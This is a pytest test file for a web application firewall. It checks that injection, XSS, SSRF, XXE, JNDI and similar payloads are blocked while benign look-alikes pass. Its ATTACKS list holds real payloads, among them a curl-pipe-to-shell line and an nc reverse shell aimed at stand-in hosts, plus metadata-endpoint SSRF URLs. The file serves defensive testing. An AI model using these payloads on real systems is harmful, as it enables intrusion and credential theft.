"""Each attack class is blocked where it arrives, and what looks like it but is not stays allowed."""

from __future__ import annotations

import ipaddress
from urllib.parse import quote, urlencode

import pytest

from apisentry.guard import Guard, HttpRequest, ssrf
from apisentry.guard.config import GuardConfig, RouteRule
from tests.guard.conftest import get, post_form, post_json

ATTACKS = [
    ("sqli", "1' OR '1'='1' --"),
    ("sqli", "1 UNION SELECT username, password FROM users"),
    ("sqli", "1; WAITFOR DELAY '0:0:5'--"),
    ("sqli", "1 AND SLEEP(5)"),
    ("sqli", "admin'#"),
    ("xss", "<script>alert(document.cookie)</script>"),
    ("xss", "<img src=x onerror=alert(1)>"),
    ("xss", "javascript:alert(1)"),
    ("xss", "<svg/onload=confirm(1)>"),
    ("cmdi", "; cat /etc/passwd"),
    ("cmdi", "$(curl http://evil.example/x.sh | sh)"),
    ("cmdi", "| nc -e /bin/sh 10.0.0.1 4444"),
    ("cmdi", "`id`; uname -a"),
    ("cmdi", "id;"),
    ("cmdi", "eval('echo pwned')"),
    ("traversal", "/./etc/hosts"),
    ("escape", "\necho ok\n\x1b[2Asleep 5"),
    ("xss", "+ADw-p+AD4-hi+ADw-/p+AD4-"),
    ("xss", '<a href="htt\tp://evil.example/">x</a>'),
    ("xss", "a=alert,a(1)"),
    ("xss", '"http://evil.example/">x</a>'),
    ("xss", "  id    ID    #REQUIRED>]>"),
    ("xxe", '<!DOCTYPE d [<!ELEMENT d ANY>]>'),
    ("traversal", "../../../../etc/passwd"),
    ("traversal", "..\\..\\windows\\win.ini"),
    ("traversal", "file:///etc/shadow"),
    ("traversal", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("ssrf", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("ssrf", "http://metadata.google.internal/computeMetadata/v1/"),
    ("ssrf", "http://[fd00:ec2::254]/latest/"),
    ("ssrf", "http://2130706433/admin"),
    ("ssrf", "http://0177.0.0.1/"),
    ("ssrf", "http://0x7f.0.0.1:8080/"),
    ("ssrf", "http://[::ffff:127.0.0.1]/"),
    ("ssrf", "http://localhost:6379/"),
    ("ssti", "{{7*7}}"),
    ("ssti", "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}"),
    ("ssti", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("jndi", "${jndi:ldap://evil.example/a}"),
    ("jndi", "${${lower:j}${lower:n}di:ldap://evil.example/a}"),
    ("jndi", "${${::-j}ndi:rmi://evil.example/a}"),
    ("ldapi", "*)(uid=*))(|(uid=*"),
    ("ldapi", "admin)(&(password=*)"),
    ("nosqli", '{"$where": "sleep(5000)"}'),
    ("nosqli", "'; return true; var x='"),
    ("xxe", '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'),
    ("crlf", "en\r\nSet-Cookie: admin=1"),
]


@pytest.mark.parametrize(("detector", "payload"), ATTACKS)
def test_attack_in_query_is_blocked(guard: Guard, detector: str, payload: str) -> None:
    v = guard.inspect(get(query=urlencode({"q": payload})))
    assert v.action == "block", v
    assert any(d.detector == detector and d.location.startswith("query.q") for d in v.detections), v.detections


@pytest.mark.parametrize(("detector", "payload"), ATTACKS)
def test_attack_in_json_leaf_is_blocked_with_its_path(guard: Guard, detector: str, payload: str) -> None:
    v = guard.inspect(post_json({"order": {"items": [{"sku": "A-1"}, {"sku": "B-2"}, {"name": payload}]}}))
    assert v.action == "block"
    assert any(d.detector == detector and d.location.startswith("body$.order.items[2].name") for d in v.detections), v.detections


def test_locations_are_named(guard: Guard) -> None:
    attack = "' OR 1=1 --"
    cases = {
        "path[3]": HttpRequest("GET", "/api/items/" + quote(attack, safe="")),
        "header.User-Agent": get(headers=[("User-Agent", attack)]),
        "cookie.session": get(headers=[("Cookie", "theme=dark; session=" + quote(attack))]),
        "form.comment": HttpRequest("POST", "/c", "", [("Content-Type", "application/x-www-form-urlencoded")],
                                    urlencode({"user": "ana", "comment": attack}).encode()),
        "multipart.bio": HttpRequest("POST", "/c", "", [("Content-Type", "multipart/form-data; boundary=XyZ")],
                                     b"--XyZ\r\nContent-Disposition: form-data; name=\"bio\"\r\n\r\n" + attack.encode()
                                     + b"\r\n--XyZ--\r\n"),
        "xml/order/note": HttpRequest("POST", "/c", "", [("Content-Type", "application/xml")],
                                      b"<order><note>" + attack.replace("'", "&apos;").encode() + b"</note></order>"),
        "body$[\"weird key\"]": post_json({"weird key": attack}),
    }
    for where, req in cases.items():
        v = guard.inspect(req)
        assert v.action == "block", where
        assert where in {d.location for d in v.detections}, (where, v.detections)


def test_operator_and_prototype_keys(guard: Guard) -> None:
    v = guard.inspect(post_json({"user": "admin", "password": {"$ne": None}}))
    assert any(d.detector == "nosqli" and d.location == 'body$.password["$ne"]' for d in v.detections)
    assert v.action == "block"
    v = guard.inspect(get(query="user[$ne]=x&pass[$regex]=.*"))
    assert v.action == "block" and {d.detector for d in v.detections} == {"nosqli"}
    v = guard.inspect(post_json({"__proto__": {"isAdmin": True}}))
    assert v.action == "block" and any(d.detector == "proto" for d in v.detections)
    v = guard.inspect(post_json({"constructor": {"prototype": {"isAdmin": True}}}))
    assert v.action == "block" and any(d.detector == "proto" for d in v.detections)
    v = guard.inspect(get(query="a[__proto__][polluted]=1"))
    assert v.action == "block"


BENIGN = [
    "O'Brien", "select a plan", "Temperature <= 25 and humidity >= 40",
    "ana.lopez+news@example.org", "https://example.com/docs?page=2&sort=asc", "10.5", "3.14",
    "Rock & roll; jazz; blues -- all genres welcome", "1/2 cup sugar; bake at 180°C", "price>10 AND price<100",
    "C:\\Users\\ana\\Documents\\report.docx", "Use `npm install --save` then run tests", "LS", "id", "cat",
    "Meeting notes: select a venue, update the budget, and drop the old agenda.",
    "Hello {{first_name}}, your order {{order_id}} has shipped.", "50% off (today only)!", "I'd like a refund :(",
    "00000000-0000-4000-8000-000000000000", "2024-05-01T13:40:00Z", "SGVsbG8gd29ybGQ=", "ZXhwcmVzcw",
    "Dear team,\nthe Q3 report is attached.\nRegards, Ana", "if (x > 0) { return x * 2; }", "/home/ana/README.md",
    "count(items)>5", "sum(a) > 10 or avg(b) >= 2", 'He said "yes" > twice', "status=alert, severity high",
    "Hello ${user}, your plan costs ${price} per month",
]


@pytest.mark.parametrize("text", BENIGN)
def test_benign_text_is_allowed(guard: Guard, text: str) -> None:
    assert guard.inspect(get(query=urlencode({"q": text}))).action == "allow"
    assert guard.inspect(post_json({"note": text})).action == "allow"


# Rich text of the kind a CMS, mail or snippet API stores: fine in a body, out of place in a
# query, header, cookie or path, where API callers send data.
RICH_TEXT = [
    "<p>Thanks for your order!</p>", "Dear {{ user.name }}, your order {{ order.id }} has shipped.",
    "<!-- hero banner --><h1>Spring sale</h1>", "$('#cart').show(); // open the cart",
    "function total(items) { return items.length; }", "h1 { color: navy; font-family: serif }",
    'See <a href="https://example.com/help">help</a>', "{% for item in items %}{{ item.name }}{% endfor %}",
]


@pytest.mark.parametrize("text", RICH_TEXT)
def test_markup_and_code_are_body_content_not_parameters(guard: Guard, text: str) -> None:
    assert guard.inspect(post_json({"html": text})).action == "allow"
    assert guard.inspect(post_form({"html": text})).action == "allow"
    for req in (get(query=urlencode({"q": text})), get(headers=[("X-Note", text)])):
        v = guard.inspect(req)
        assert v.action == "block", (req, v.detections)


@pytest.mark.parametrize("tail", ["write(1) autofocus>", "open()>", "5rt(0);'>rhainfosec"])
def test_a_call_that_closes_a_tag_is_a_handler_outside_bodies(guard: Guard, tail: str) -> None:
    assert guard.inspect(get(query=urlencode({"q": tail}))).action == "block"
    assert guard.inspect(get(headers=[("X-Note", tail)])).action == "block"
    assert guard.inspect(post_json({"code": "if (ready()) > x"})).action == "allow"


def test_a_route_can_take_markup_in_its_query() -> None:
    g = Guard(GuardConfig(routes=[RouteRule("/preview", "GET", disabled_detectors=["xss-markup"])]))
    assert g.inspect(get("/preview", query=urlencode({"html": "<p>Thanks for your order!</p>"}))).action == "allow"
    assert g.inspect(get("/preview", query=urlencode({"html": "<script>alert(1)</script>"}))).action == "block"


def test_private_ip_in_a_field_is_data_but_in_a_url_is_ssrf(guard: Guard) -> None:
    assert guard.inspect(post_json({"ip": "10.0.0.5"})).action == "allow"
    assert guard.inspect(post_json({"webhook": "http://10.0.0.5/hook"})).action == "block"
    assert guard.inspect(post_json({"webhook": "https://hooks.example.com/x"})).action == "allow"


def test_graphql_limits() -> None:
    g = Guard(GuardConfig(graphql_introspection=False, graphql_max_depth=5, graphql_max_aliases=3))
    ok = post_json({"query": "query { user(id: 1) { name orders { id } } }"}, path="/graphql")
    assert g.inspect(ok).action == "allow"
    intro = post_json({"query": "{ __schema { types { name } } }"}, path="/graphql")
    assert any("introspection" in d.message for d in g.inspect(intro).detections)
    deep = post_json({"query": "{ a { b { c { d { e { f { g } } } } } } }"}, path="/graphql")
    assert g.inspect(deep).action == "block"
    aliases = post_json({"query": "{ " + " ".join(f"a{i}: user(id: {i}) {{ name }}" for i in range(10)) + " }"}, path="/graphql")
    v = g.inspect(aliases)
    assert v.action == "block" and any("aliases" in d.message for d in v.detections)
    batch = post_json([{"query": "{ me { id } }"}] * 20, path="/graphql")
    assert g.inspect(batch).action == "block"


def test_monitor_mode_reports_but_allows() -> None:
    g = Guard(GuardConfig(mode="monitor"))
    v = g.inspect(get(query="q=%3Cscript%3Ealert(1)%3C/script%3E"))
    assert v.action == "allow" and v.would_block and v.score >= 5


def test_a_weak_signal_alone_does_not_block(guard: Guard) -> None:
    v = guard.inspect(get(query=urlencode({"q": "it's"})))
    assert v.action == "allow"
    assert v.score < 5


def test_json_in_a_parameter_is_read_as_json(guard: Guard) -> None:
    assert guard.inspect(get(query=urlencode({"fields": '["or","*"]', "filter": '{"status": ["open"]}'}))).action == "allow"
    v = guard.inspect(get(query=urlencode({"filter": '{"name": "x\' OR 1=1 --"}'})))
    assert v.action == "block" and any(d.location == 'query.filter.name' for d in v.detections)


def test_comparison_operators_in_query_names_are_weak_alone(guard: Guard) -> None:
    assert guard.inspect(get(query="createdAt[$gte]=2024-01-01&createdAt[$lte]=2024-02-01")).action == "allow"
    assert guard.inspect(get(query="password[$ne]=x")).action == "block"


def test_commands_that_are_english_words_need_shell_arguments(guard: Guard) -> None:
    assert guard.inspect(post_json({"note": "Signed per the standards; base64 encoded below"})).action == "allow"
    assert guard.inspect(post_json({"note": "Lunch at noon; set the table first"})).action == "allow"
    assert guard.inspect(post_json({"note": "x; cat /etc/hosts"})).action == "block"
    assert guard.inspect(post_json({"note": "x && sleep 10"})).action == "block"


# The IPv4 ranges Python's ipaddress treats as private, loopback, link-local or unspecified.
INTERNAL_V4 = ["0.0.0.0/8", "10.0.0.0/8", "127.0.0.0/8", "169.254.0.0/16", "172.16.0.0/12",
               "192.0.0.0/29", "192.0.0.170/31", "192.0.2.0/24", "192.168.0.0/16", "198.18.0.0/15",
               "198.51.100.0/24", "203.0.113.0/24", "240.0.0.0/4", "255.255.255.255/32"]


@pytest.mark.parametrize("net", INTERNAL_V4)
def test_every_internal_range_reaches_the_range_checks(net: str) -> None:
    """The public-address shortcut in ssrf.classify must not swallow an internal range: a URL to
    any address inside one (first, last, and one in the middle) is reported."""
    n = ipaddress.ip_network(net)
    for ip in (n.network_address, n.broadcast_address, n.network_address + n.num_addresses // 2):
        assert ssrf.classify(f"http://{ip}/") is not None, ip


def test_version_numbers_and_public_addresses_are_not_targets() -> None:
    for value in ("4.12.0", "1.2.3.4", "8.8.8.8", "http://93.184.216.34/"):
        assert ssrf.classify(value) is None, value


@pytest.mark.parametrize("url", ["http://1113982867/", "http://0102.0146.0007.00000223/", "http://0x42.0x0000066.0x7.0x93/"])
def test_public_address_in_an_obfuscated_spelling(url: str) -> None:
    hit = ssrf.classify(url)
    assert hit is not None and "obfuscated" in hit[1]
    assert ssrf.classify("http://66.102.7.147/") is None


def test_a_dtd_declaring_entities_is_blocked_even_without_system(guard: Guard) -> None:
    body = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaa">]><r>&a;</r>'
    v = guard.inspect(HttpRequest("POST", "/import", "", [("Content-Type", "application/xml")], body))
    assert v.action == "block" and any(d.detector == "xxe" for d in v.detections), v.detections
    plain = b'<?xml version="1.0"?><order><note>gift wrap</note></order>'
    assert guard.inspect(HttpRequest("POST", "/import", "", [("Content-Type", "application/xml")], plain)).action == "allow"


def test_xml_declaration_is_not_markup_injection_but_xslt_calling_php_is(guard: Guard) -> None:
    xml = [("Content-Type", "application/xml")]
    rpc = b'<?xml version="1.0"?><methodCall><methodName>demo.sayHello</methodName><params></params></methodCall>'
    assert guard.inspect(HttpRequest("POST", "/rpc", "", xml, rpc)).action == "allow"
    xslt = (b'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:php="http://php.net/xsl">'
            b'<xsl:template match="/"><xsl:value-of select="php:function(\'passthru\',\'ls -la\')"/></xsl:template></xsl:stylesheet>')
    v = guard.inspect(HttpRequest("POST", "/rpc", "", xml, xslt))
    assert v.action == "block" and any(d.detector == "cmdi" for d in v.detections), v.detections
    # An attack in an element's text is still found, at the element's location.
    sqli = b"<?xml version=\"1.0\"?><order><note>x' UNION SELECT password FROM users--</note></order>"
    v = guard.inspect(HttpRequest("POST", "/rpc", "", xml, sqli))
    assert v.action == "block" and any(d.location == "xml/order/note" for d in v.detections), v.detections


def test_a_parameter_named_where_needs_code_in_its_value(guard: Guard) -> None:
    """Socrata's SoQL takes `$where=magnitude > 3.0`; `$where=sleep(5000)` is the MongoDB attack."""
    assert guard.inspect(get(query=urlencode({"$where": "magnitude > 3.0", "$limit": "10"}))).action == "allow"
    v = guard.inspect(get(query=urlencode({"$where": "sleep(5000)"})))
    assert v.action == "block" and any(d.detector == "nosqli" for d in v.detections), v.detections
    assert guard.inspect(post_json({"$where": "magnitude > 3.0"})).action == "block"


def test_urls_inside_a_value(guard: Guard) -> None:
    """A URL inside text: a metadata service or an obfuscated address blocks; a loopback URL in a
    note (`see http://localhost:8080/docs`) is weak evidence only."""
    assert ssrf.classify_anywhere('<a href="http://0x42.0x0000066.0x7.0x93/">x</a>') is not None
    v = guard.inspect(post_json({"html": '<a href="http://1113982867/">profile</a>'}))
    assert v.action == "block" and any(d.detector == "ssrf" for d in v.detections), v.detections
    v = guard.inspect(post_json({"cfg": "endpoint=http://169.254.169.254/latest/meta-data/"}))
    assert v.action == "block", v.detections
    assert guard.inspect(post_json({"note": "see http://localhost:8080/docs for the local setup"})).action == "allow"
    assert guard.inspect(post_json({"note": 'Details on <a href="https://example.com/help">help</a>'})).action == "allow"
